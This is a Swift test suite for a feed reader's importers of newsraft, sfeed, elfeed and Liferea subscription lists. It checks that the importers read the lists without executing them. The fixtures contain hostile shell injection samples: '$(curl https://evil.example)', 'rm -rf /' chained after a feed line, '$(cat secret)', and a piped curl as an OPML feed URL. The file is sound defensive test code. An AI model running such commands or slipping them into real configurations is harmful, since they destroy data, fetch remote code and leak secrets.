import FeedParser
import News
import Testing

/// The lists of feeds of other readers.
@Suite("Lists of other readers")
struct OtherReadersTests {
    @Test func newsraftsSectionsBecomeFolders() {
        let text = """
            # mine
            https://a.example/feed "The A"
            @ News | reload-period 30
            https://b.example/feed  "B" | item-limit 100
            $(curl https://evil.example) "Run"
            @ Tech
            https://c.example/feed
            nonsense
            """
        #expect(NewsraftFeeds.isOne("@ News\nhttps://b.example/feed \"B\"\n"))
        #expect(!NewsraftFeeds.isOne("https://b.example/feed tag\n"))
        let list = NewsraftFeeds.contents(of: Array(text.utf8))
        #expect(
            list.subscriptions == [
                Subscription(address: "https://a.example/feed", title: "The A"),
                Subscription(address: "https://b.example/feed", title: "B", folders: ["News"]),
                Subscription(address: "https://c.example/feed", folders: ["Tech"]),
            ])
        #expect(list.problems.map(\.line) == [5, 8])
    }

    @Test func sfeedsScriptIsReadAndNotRun() {
        let text = """
            #!/bin/sh
            sfeedpath="$HOME/.sfeed/feeds"
            feeds() {
                # feed <name> <feedurl> [basesiteurl] [encoding]
                feed "xkcd" "https://xkcd.com/atom.xml" 'https://xkcd.com'
                feed 'A; B' https://b.example/feed "" "iso-8859-1"; rm -rf /
                feed "computed" "$(cat secret)"
            }
            """
        #expect(SfeedConfiguration.isOne(text))
        let list = SfeedConfiguration.contents(of: Array(text.utf8))
        #expect(
            list.subscriptions == [
                Subscription(address: "https://xkcd.com/atom.xml", title: "xkcd", homePage: "https://xkcd.com"),
                Subscription(address: "https://b.example/feed", title: "A; B"),
            ])
        #expect(list.problems.map(\.line) == [7])
    }

    @Test func elfeedsListIsReadWithItsTags() {
        let text = """
            ;; my init file
            (setq elfeed-feeds
                  '("https://a.example/feed" ; a comment
                    ("https://b.example/feed" blog "emacs stuff")
                    ("nonsense" x)))
            (setq other '("https://c.example/feed"))
            """
        #expect(ElfeedFeeds.isOne(text))
        let list = ElfeedFeeds.contents(of: Array(text.utf8))
        #expect(list.subscriptions.map(\.address) == ["https://a.example/feed", "https://b.example/feed"])
        #expect(list.subscriptions[1].tags.map(\.key) == ["blog", "emacsstuff"])
        #expect(list.problems.map(\.line) == [5])
    }

    @Test func lifereasListIsOPMLWithItsCommandsLeftOut() throws {
        let text = """
            <?xml version="1.0"?><opml version="1.0"><body>
            <outline title="Folder" text="Folder" type="folder" id="x">
            <outline title="A" text="A" type="rss" xmlUrl="https://a.example/feed" htmlUrl="https://a.example/"/>
            <outline title="C" text="C" type="rss" xmlUrl="|curl https://x.example"/>
            </outline><outline title="Important" type="vfolder" id="v"><outline type="rule" text="r"/></outline>
            </body></opml>
            """
        let list = try OPML.subscriptions(in: Array(text.utf8), name: "feedlist.opml")
        #expect(list.subscriptions.map(\.address) == ["https://a.example/feed"])
        #expect(list.subscriptions[0].folders == ["Folder"])
        #expect(list.problems.count == 1)
    }

    /// Each in time that grows with the list, and not with its square.
    @Test func listsOfAnyLengthAreRead() throws {
        let addresses = (0..<4_000 * size).map { "https://x.example/\($0)" }
        let newsboat = addresses.joined(separator: "\n")
        #expect(try NewsboatURLs.contents(of: Array(newsboat.utf8), name: "urls").subscriptions.count == 4_000 * size)
        let elfeed = "(setq elfeed-feeds '(" + addresses.map { "(\"\($0)\" a)" }.joined(separator: " ") + "))"
        #expect(ElfeedFeeds.contents(of: Array(elfeed.utf8)).subscriptions.count == 4_000 * size)
        let sfeed = "feed 'a' '" + String(repeating: "x", count: 40_000 * size) + "'"
        #expect(SfeedConfiguration.contents(of: Array(sfeed.utf8)).subscriptions.isEmpty)
    }

    @Test(arguments: [
        "", "(", "elfeed-feeds", "elfeed-feeds '(\"", "feeds() {\nfeed \"", "@", "@ \n\"\"", "elfeed-feeds (((((",
    ])
    func whatIsBrokenGivesWhatItCan(text: String) {
        let bytes = Array(text.utf8)
        #expect(NewsraftFeeds.contents(of: bytes).subscriptions.isEmpty)
        #expect(SfeedConfiguration.contents(of: bytes).subscriptions.isEmpty)
        #expect(ElfeedFeeds.contents(of: bytes).subscriptions.isEmpty)
    }
}
